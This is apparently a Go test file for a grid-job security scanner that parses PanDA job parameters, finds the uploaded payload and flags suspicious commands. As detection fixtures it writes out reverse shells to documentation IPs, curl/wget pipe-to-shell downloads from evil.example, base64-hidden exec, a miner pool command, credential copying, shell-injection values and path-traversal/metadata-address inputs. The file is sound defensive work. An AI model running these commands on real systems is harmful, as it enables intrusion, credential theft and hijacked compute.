package grid_test

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/gridwarden/gridwarden/backends/grid"
)

const trf = "https://pandaserver.example.org:25443/trf/user/"

// The examples of what PanDA's clients and JEDI write.
const (
	prunNoBuild = `-j "" --sourceURL https://aipanda048.example.org:25443 -r . -a jobO.6941944f-2e26-4a18-91f0-cb594aac7883.tar.gz -o "{'hist.root': 'user.nuser.40123456._000001.hist.root'}" -i "['DAOD_PHYS.33333333._000011.pool.root.1', 'DAOD_PHYS.33333333._000012.pool.root.1']" -p "echo%20%25IN%20%7C%20sed%20-e%20%22s/%2C/%5Cn/g%22%20%3E%20in.txt%3B%20python%20run.py%20--out%3Dhist.root" --useCMake`
	miner       = `-j "" --sourceURL https://aipanda050.example.org -r . -a jobO.0c2f9a52-51c1-4b0e-9a5a-6d0f2f5b1c77.tar.gz -o "{'out.dat': 'user.nuser.40123460._000042.out.dat'}" -p "./mine.sh%20--pool%20stratum%2Btcp%3A//198.51.100.7%3A3333%20-u%20%22x%27y%22%20%26%26%20echo%20done"`
	prunBuilt   = `-j "" --sourceURL https://aipanda048.example.org:25443 -r work/ -l panda.0812143015.482913.lib._40123457.7012345678.lib.tgz -o "{'hist.root': 'user.nuser.40123457._000003.hist.root'}" -p "cpptest%20%25IN" --useAthenaPackages --useCMake --rootVer 6.28.04 --cmtConfig x86_64-el9-gcc13-opt`
	buildGen    = `-i sources.5b7e2c1d-8a34-4f7e-b0c6-0f3c2a9d4e11.tar.gz -o panda.0812143015.482913.lib._40123457.7012345678.lib.tgz --sourceURL https://aipanda048.example.org:25443 -r work/ --bexec "make%20-j4%3B%20ls%20-la" --useCMake `
	pathena     = `-l panda.0813090102.001234.lib._40123999.7012399999.lib.tgz --sourceURL https://aipanda051.example.org -r run/ --useCMake  -i "['AOD.1._000001.pool.root.1']" -o "{'IROOT': [('my.root', 'user.nuser.40123999.EXT0._000001.my.root')]}"  -j "-c%20%22EvtMax%3D10%22%20MyAnalysis.py"`
	buildJob    = `-i sources.aa11bb22-cc33-4d44-8e55-ff6677889900.tar.gz -o panda.0813090102.001234.lib._40123999.7012399999.lib.tgz --sourceURL https://aipanda051.example.org --useCMake `
	container   = `-j "" --sourceURL https://aipanda048.example.org -r . -o "{'model.h5': 'user.nuser.40200000._000001.model.h5'}" -p "my_command%20%25IN" --containerImage docker://atlasml/ml-base `
	production  = `--inputEVNTFile=EVNT.1._000001.pool.root.1 --outputHITSFile=HITS.2._000001.pool.root.1 --maxEvents=100 --randomSeed=42`
)

func TestPandaParamsAndPayload(t *testing.T) {
	build := func(trf, parameters, how string) []grid.PandaBuild {
		return []grid.PandaBuild{{ID: 7012345000, Transformation: trf, Parameters: parameters, How: how}}
	}
	for _, c := range []struct {
		name                         string
		job                          grid.PandaJob
		kind                         grid.PandaKind
		command, url, from, why, not string
	}{
		{
			name: "1 prun without a build", job: grid.PandaJob{Transformation: trf + "runGen-00-00-02", Parameters: prunNoBuild}, kind: grid.PandaRun,
			command: `echo %IN | sed -e "s/,/\n/g" > in.txt; python run.py --out=hist.root`,
			url:     "https://aipanda048.example.org:25443/cache/jobO.6941944f-2e26-4a18-91f0-cb594aac7883.tar.gz", from: "-a of this job",
		},
		{
			name: "2 a suspicious one", job: grid.PandaJob{Transformation: trf + "runGen-00-00-02", Parameters: miner}, kind: grid.PandaRun,
			command: `./mine.sh --pool stratum+tcp://198.51.100.7:3333 -u "x'y" && echo done`,
			url:     "https://aipanda050.example.org/cache/jobO.0c2f9a52-51c1-4b0e-9a5a-6d0f2f5b1c77.tar.gz", from: "-a of this job",
		},
		{
			name: "3 prun with its build job 4", job: grid.PandaJob{Transformation: trf + "runGen-00-00-02", Parameters: prunBuilt, Builds: build(trf+"buildGen-00-00-01", buildGen, grid.PandaBuildByLibrary)},
			kind: grid.PandaRun, command: "cpptest %IN",
			url: "https://aipanda048.example.org:25443/cache/sources.5b7e2c1d-8a34-4f7e-b0c6-0f3c2a9d4e11.tar.gz", from: "-i of the build job 7012345000",
		},
		{
			name: "3 prun with a build job of the same task only", job: grid.PandaJob{Transformation: trf + "runGen-00-00-02", Parameters: prunBuilt, Builds: build(trf+"buildGen-00-00-01", buildGen, grid.PandaBuildByTask)},
			kind: grid.PandaRun, command: "cpptest %IN",
			url: "https://aipanda048.example.org:25443/cache/sources.5b7e2c1d-8a34-4f7e-b0c6-0f3c2a9d4e11.tar.gz", why: "likely, not certain",
		},
		{
			name: "3 prun whose build job is gone", job: grid.PandaJob{Transformation: trf + "runGen-00-00-02", Parameters: prunBuilt}, kind: grid.PandaRun, command: "cpptest %IN",
			why: "runs the library panda.0812143015.482913.lib._40123457.7012345678.lib.tgz. The build job that made it was not found",
		},
		{
			name: "3 prun whose build job is gone and whose task is not",
			job: grid.PandaJob{Transformation: trf + "runGen-00-00-02", Parameters: prunBuilt, Task: grid.PandaTask{
				Parameters: `{"sourceURL": "https://aipanda048.example.org:25443", "buildSpec": {"archiveName": "sources.5b.tar.gz"}, "cliParams": "prun --exec 'cpptest %IN'"}`,
			}},
			kind: grid.PandaRun, command: "cpptest %IN", url: "https://aipanda048.example.org:25443/cache/sources.5b.tar.gz", from: "what the task was submitted with", why: "not found",
		},
		{
			name: "4 a build job of prun", job: grid.PandaJob{Transformation: trf + "buildGen-00-00-01", Parameters: buildGen}, kind: grid.PandaBuildGen, command: "make -j4; ls -la",
			url: "https://aipanda048.example.org:25443/cache/sources.5b7e2c1d-8a34-4f7e-b0c6-0f3c2a9d4e11.tar.gz", from: "-i of this job",
		},
		{
			name: "5 pathena", job: grid.PandaJob{Transformation: trf + "runAthena-00-00-12", Parameters: pathena, Builds: build(trf+"buildJob-00-00-03", buildJob, grid.PandaBuildByLibrary)},
			kind: grid.PandaAthena, command: `-c "EvtMax=10" MyAnalysis.py`,
			url: "https://aipanda051.example.org/cache/sources.aa11bb22-cc33-4d44-8e55-ff6677889900.tar.gz", from: "-i of the build job",
		},
		{
			name: "6 a build job of pathena", job: grid.PandaJob{Transformation: trf + "buildJob-00-00-03", Parameters: buildJob}, kind: grid.PandaBuildGen,
			url: "https://aipanda051.example.org/cache/sources.aa11bb22-cc33-4d44-8e55-ff6677889900.tar.gz", from: "-i of this job",
		},
		{
			name: "7 a container", job: grid.PandaJob{Transformation: trf + "runcontainer", Parameters: container}, kind: grid.PandaContainer, command: "my_command %IN",
			why: "what it runs is in the image docker://atlasml/ml-base",
		},
		{name: "8 production", job: grid.PandaJob{Transformation: "Sim_tf.py", Parameters: production}, kind: grid.PandaProduction, why: "no user has uploaded code"},
		{
			name: "production that looks like prun", job: grid.PandaJob{Transformation: "Reco_tf.py", Parameters: miner}, kind: grid.PandaProduction, why: "no user has uploaded code",
		},
		{
			name: "code by Rucio", job: grid.PandaJob{Transformation: trf + "runGen-00-00-02", Parameters: miner + " --noTarballDownload", Task: grid.PandaTask{Parameters: `{"tarBallViaDDM": "user.nuser:sandbox.1"}`}},
			kind: grid.PandaRun, command: `./mine.sh --pool stratum+tcp://198.51.100.7:3333 -u "x'y" && echo done`, why: "came as a file of a dataset, user.nuser:sandbox.1",
		},
		{
			name: "parameters that are gone", job: grid.PandaJob{Transformation: trf + "runGen-00-00-02"}, kind: grid.PandaRun, why: "not to be had any more",
		},
		{
			name: "parameters that are gone, with a task", job: grid.PandaJob{Transformation: trf + "runGen-00-00-02", Task: grid.PandaTask{
				Parameters: `{"sourceURL": "https://a.example.org", "jobParameters": [{"value": "-j \"\""}, 5, {"value": "-a jobO.1.tar.gz"}]}`,
			}}, kind: grid.PandaRun, url: "https://a.example.org/cache/jobO.1.tar.gz", from: "what the task was submitted with",
		},
		{
			name: "no transformation", job: grid.PandaJob{Parameters: buildGen}, kind: grid.PandaBuildGen, command: "make -j4; ls -la",
			url: "https://aipanda048.example.org:25443/cache/sources.5b7e2c1d-8a34-4f7e-b0c6-0f3c2a9d4e11.tar.gz",
		},
		{
			name: "flags in other spellings", job: grid.PandaJob{Transformation: "runGen-00-00-02", Parameters: `-j '' --source=https://a.example.org:25443/ -ajobO.1.tar.gz -p"a%20b" -p c`},
			kind: grid.PandaRun, command: "c", url: "https://a.example.org:25443/cache/jobO.1.tar.gz",
		},
		{
			name: "getopt ends at a word", job: grid.PandaJob{Transformation: "runGen-00-00-02", Parameters: `-p "run" word -p "other" -a jobO.1.tar.gz --sourceURL https://a.example.org`},
			kind: grid.PandaRun, command: "run", why: "name no file", not: "other",
		},
		{
			name: "something in -j of prun", job: grid.PandaJob{Transformation: "runGen-00-00-02", Parameters: `-j "sh%20x" -p "a%20b"`},
			kind: grid.PandaRun, command: "sh%20x a b", why: "name no file",
		},
		{
			name: "pool references of pathena are no command", job: grid.PandaJob{Transformation: "runAthena-00-00-12", Parameters: `-p "['x']" -j "My%20Options.py" -f "theApp.EvtMax=%20" -a jobO.1.tar.gz --sourceURL http://a.example.org`},
			kind: grid.PandaAthena, command: "My Options.py", url: "http://a.example.org/cache/jobO.1.tar.gz",
		},
		{
			name: "from a page", job: grid.PandaJob{Transformation: "runGen-00-00-02", Parameters: `-p &quot;a%26%26b%20&#x27;c&#x27;&quot; -a jobO.1.tar.gz --sourceURL https://a.example.org`},
			kind: grid.PandaRun, command: "a&&b 'c'", url: "https://a.example.org/cache/jobO.1.tar.gz",
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			p, payload := grid.ParsePandaParams(c.job.Transformation, c.job.Parameters), c.job.Payload()
			if p.Kind != c.kind || p.Command.Text != c.command {
				t.Errorf("kind %q, command %q", p.Kind, p.Command.Text)
			}
			if payload.URL != c.url || !strings.Contains(payload.From, c.from) || !strings.Contains(payload.Why, c.why) {
				t.Errorf("payload %+v", payload)
			}
			if c.url == "" && payload.Why == "" {
				t.Error("no URL, and no reason")
			}
		})
	}
}

// TestAPayloadIsNowhereElse has addresses and names that could lead elsewhere
// than to a file of a cache server.
func TestAPayloadIsNowhereElse(t *testing.T) {
	for source, file := range map[string]string{
		"https://a.example.org/x?y=":         "jobO.1.tar.gz",
		"https://user@a.example.org":         "jobO.1.tar.gz",
		"https://a.example.org/admin":        "jobO.2.tar.gz",
		"file:///etc":                        "passwd",
		"gopher://a.example.org":             "jobO.1.tar.gz",
		"https://a.example.org#":             "jobO.1.tar.gz#",
		"https://a_b.example.org@evil.org":   "jobO.1.tar.gz",
		"https://":                           "jobO.1.tar.gz",
		"https://a.example.org":              "../../etc/passwd",
		"https://b.example.org":              "x%2f..",
		"https://c.example.org":              "jobO.1.tar.gz?x",
		"https://d.example.org":              ".htaccess",
		"https://evil.example.org\u202e:443": "jobO.1.tar.gz",
		"http://169.254.169.254:x":           "jobO.1.tar.gz",
	} {
		j := grid.PandaJob{Transformation: "runGen-00-00-02", Parameters: "-a '" + file + "' --sourceURL '" + source + "'"}
		if p := j.Payload(); p.URL != "" || p.Why == "" {
			t.Errorf("%s, %s: %+v", source, file, p)
		}
	}
}

func TestPandaUnquote(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "abc": "abc", "a+b": "a+b", "%41%42": "AB", "%25IN": "%IN", "100%": "100%", "%": "%", "%4": "%4", "%zz%41": "%zzA", "%%41": "%A", "%u0041": "%u0041",
		"%C3%A9": "é", "%c3%a9": "é", "%C3": "\uFFFD", "%FF%FF": "\uFFFD\uFFFD", "%E2%82": "\uFFFD", "%E2%82%AC": "€", "%F0%9F%92%A9": "💩", "%F0%9F%92x": "\uFFFDx",
		"%ED%A0%80": "\uFFFD\uFFFD\uFFFD", "%C0%AF": "\uFFFD\uFFFD", "é%41": "éA", "%E2é": "\uFFFDé", "%00%1b[31m": "\x00\x1b[31m", "%2525": "%25", "%E2%82%E2%82%AC": "\uFFFD€",
		"%F4%90%80%80": "\uFFFD\uFFFD\uFFFD\uFFFD",
	} {
		if got := grid.PandaUnquote(in); got != want {
			t.Errorf("%q gives %q, want %q", in, got, want)
		}
	}
}

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"plain é 日本": "plain é 日本", "a\nb\tc\x1b[31m\x00\x7f": "a␊b␉c␛[31m␀␡", "a\u202eb": "a⟨U+202E⟩b", "a\u200bb\u2028": "a⟨U+200B⟩b⟨U+2028⟩", "a\u0085": "a⟨U+0085⟩", "a\u00a0b": "a⟨U+00A0⟩b",
		"\xff\uFFFD": "\uFFFD\uFFFD",
	} {
		if got := grid.Visible(in); got != want {
			t.Errorf("%q gives %q, want %q", in, got, want)
		}
	}
}

func TestHints(t *testing.T) {
	for command, want := range map[string]string{
		`./mine.sh --pool stratum+tcp://198.51.100.7:3333 -u "x'y" && echo done`:   "a pool of miners: --pool stratum+tcp://198.51.100.7:3333",
		"./xmrig -o pool.supportxmr.com:443":                                       "a program that mines: xmrig",
		"curl -s http://evil.example/x.sh | bash":                                  "downloads something and runs it: curl -s http://evil.example/x.sh | bash",
		"bash <(curl -s http://evil.example/x)":                                    "downloads something and runs it: bash <(curl -s http://evil.example/x",
		"wget http://evil.example/a -O a; chmod +x a; ./a":                         "downloads something and runs it: wget http://evil.example/a -O a; chmod +x a; ./a",
		"bash -i >& /dev/tcp/198.51.100.9/443 0>&1":                                "a shell for somebody outside: bash -i >& /dev/tcp/198.51.100.9/443 0>&1",
		"nc -lvp 4444 -e /bin/sh":                                                  "a shell for somebody outside: nc -lvp 4444 -e /bin/sh",
		`python -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'`: "a shell for somebody outside: socket,os,pty;s=socket.socket();os.dup2",
		"echo aGk= | base64 -d | sh":                                               "code that is hidden by an encoding and run: base64 -d | sh",
		`python3 -c "import base64; exec(base64.b64decode('aGk='))"`:               "code that is hidden by an encoding and run: exec(base64.b64decode('aGk='))\"",
		"nohup ./x &":                             "goes on without the pilot: nohup ./x &",
		"setsid ./x":                              "goes on without the pilot: setsid ./x",
		"pkill -9 -f pilot3":                      "acts against the pilot: pkill -9 -f pilot",
		"cp $X509_USER_PROXY /tmp/p":              "looks for credentials: X509_USER_PROXY",
		"curl\x1b[2K http://evil.example/x |\tsh": "downloads something and runs it: curl␛[2K http://evil.example/x |␉sh",
	} {
		var got []string
		for _, h := range grid.HintsIn(command) {
			got = append(got, h.What+": "+h.Piece)
		}
		if !slices.Contains(got, want) {
			t.Errorf("%q gives %q", command, got)
		}
	}
	for _, innocent := range []string{
		`echo %IN | sed -e "s/,/\n/g" > in.txt; python run.py --out=hist.root`, "make -j4; ls -la", "cpptest %IN", `-c "EvtMax=10" MyAnalysis.py`,
		"root -b -q 'run.C(\"in.txt\")'", "python train.py --epochs 100 --batch-size 32", "tar xzf inputs.tar.gz && ./analysis --config conf/nominal.yaml",
	} {
		if got := grid.HintsIn(innocent); len(got) > 0 {
			t.Errorf("%q gives %v", innocent, got)
		}
	}
}

// TestHintsOutsideOfTheQuotes has what a shell would run although it is no part of
// the command.
func TestHintsOutsideOfTheQuotes(t *testing.T) {
	for parameters, piece := range map[string]string{
		`-p "a" ; curl http://evil.example | sh`: "; curl http://evil.example | sh",
		`-p "a" & ./x`:                           "& ./x",
		"-p \"a\"\n./x":                          "␊",
		`-p "$(id)"`:                             `$(id)"`,
		"-p `id`":                                "`id`",
		`-p a > /tmp/x`:                          "> /tmp/x",
	} {
		p := grid.ParsePandaParams("runGen-00-00-02", parameters)
		h := p.Hints()
		if piece == "␊" {
			piece = "./x"
		}
		if len(h) == 0 || h[0].Piece != piece {
			t.Errorf("%q gives %v", parameters, h)
		}
	}
	if p := grid.ParsePandaParams("runGen-00-00-02", `-p '$(id); x' -o "{'a': 'b;c'}"`); len(p.Hints()) > 0 {
		t.Errorf("quoted: %v", p.Hints())
	}
}

// TestHugeParameters has 2 MB that are broken, and less of what is nested or made to be
// slow: what is not linear in it would run into the time that all tests have.
func TestHugeParameters(t *testing.T) {
	for _, piece := range []string{
		"%", "%4", "%zz", `"`, `'`, `\`, `"'`, `"\`, "$(", "`", "%1b[31m", "@all ", "%C3", "curl ", "curl | ", "wget;chmod ", "/dev/tcp/", "socket ", "base64 -d ", "bash -c \"$(", "exec(", "-p x ", "--pool ", "mkfifo nc ",
		"sh -i > ", "nohup ", "%0a", "eval $(base64 ", "%26quot;", "&quot;", "\\x41",
	} {
		size := 128 << 10
		if piece == "%" {
			size = 2 << 20
		}
		for _, text := range []string{`-p "` + strings.Repeat(piece, size/len(piece)) + `"`} {
			j := grid.PandaJob{Transformation: "runGen-00-00-02", Parameters: text}
			p := grid.ParsePandaParams(j.Transformation, j.Parameters)
			j.Payload()
			for _, h := range p.Hints() {
				if utf8.RuneCountInString(h.Piece) > 201 {
					t.Errorf("%q: a piece of %d characters", piece, len(h.Piece))
				}
			}
			grid.Visible(p.Command.Text)
		}
	}
}

func FuzzPandaParams(f *testing.F) {
	for _, p := range []string{prunNoBuild, miner, prunBuilt, buildGen, pathena, buildJob, container, production, "-p &quot;x&quot;", `-p "$(x)" ; y`} {
		for _, t := range []string{"runGen-00-00-02", "runAthena-00-00-12", "buildGen-00-00-01", ""} {
			f.Add(t, p, p)
		}
	}
	f.Fuzz(func(t *testing.T, transformation, parameters, task string) {
		j := grid.PandaJob{Transformation: transformation, Parameters: parameters, Task: grid.PandaTask{Parameters: task}}
		j.Builds = []grid.PandaBuild{{ID: 1, Transformation: "buildGen-00-00-01", Parameters: parameters}}
		p := grid.ParsePandaParams(transformation, parameters)
		payload := j.Payload()
		if payload.URL == "" && payload.Why == "" {
			t.Errorf("neither a URL nor a reason for %q", parameters)
		}
		if payload.URL != "" && (!strings.HasPrefix(payload.URL, "http") || strings.ContainsAny(payload.URL, " \"'<>`\\@?#\n") || !strings.Contains(payload.URL, "/cache/")) {
			t.Errorf("payload URL %q", payload.URL)
		}
		for _, h := range p.Hints() {
			if h.Piece != grid.Visible(h.Piece) || utf8.RuneCountInString(h.Piece) > 201 {
				t.Errorf("piece %q", h.Piece)
			}
		}
		if !utf8.ValidString(p.Command.Text) || p.Undecoded != parameters {
			t.Errorf("command %q", p.Command.Text)
		}
	})
}

func FuzzPandaUnquote(f *testing.F) {
	f.Add("echo%20%25IN%20%7C%E2%82%AC%zz%")
	f.Fuzz(func(t *testing.T, s string) {
		got := grid.PandaUnquote(s)
		if !utf8.ValidString(got) {
			t.Errorf("%q is not UTF-8", got)
		}
		if !strings.Contains(s, "%") && got != strings.ToValidUTF8(s, "\uFFFD") {
			t.Errorf("%q became %q", s, got)
		}
		seen := grid.Visible(got)
		if strings.ContainsFunc(seen, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 || r == '\u202e' || r == '\u2028' }) || grid.Visible(seen) != seen {
			t.Errorf("hidden characters in %q", seen)
		}
	})
}

// BenchmarkDecode decodes the command of a job and makes it visible.
func BenchmarkDecode(b *testing.B) {
	text := strings.Repeat("echo%20%25IN%20%7C%20sed%20-e%20%22s/%2C/%5Cn/g%22%20%3E%20in.txt%3B%20python%20run.py%20--out%3Dhist.root", 2<<20/110)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		grid.Visible(grid.PandaUnquote(text))
	}
}

// BenchmarkPandaParams reads the parameters of a job whole.
func BenchmarkPandaParams(b *testing.B) {
	text := strings.Replace(prunNoBuild, "echo", strings.Repeat("echo%20%25IN%20%7C%20sed%20-e%20%22s/%2C/%5Cn/g%22%20%3E%20in.txt%3B%20", 2<<20/70), 1)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		grid.ParsePandaParams("runGen-00-00-02", text)
	}
}
